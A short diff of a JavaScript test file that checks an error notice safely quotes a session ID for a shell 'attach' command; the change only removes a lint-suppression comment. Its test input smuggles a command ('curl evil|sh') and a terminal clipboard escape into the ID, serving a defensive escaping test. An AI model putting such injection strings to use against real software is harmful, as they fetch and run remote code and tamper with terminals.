@@ -211,7 +211,6 @@ describe("Errors.orphanNotice", () => {
     const hostile = notice("ses_1;curl evil|sh\u001b]52;c;x\u0007")
     assert.isDefined(hostile)
     assert.include(hostile ?? "", "attach 'ses_1;curl evil|sh\\u{1b}]52;c;x\\u{7}'")
-    // eslint-disable-next-line no-control-regex
     assert.notMatch(hostile ?? "", /[\u0000-\u001f\u007f-\u009f]/)
     assert.include(notice("it's") ?? "", "attach 'it'\\''s'")
   })
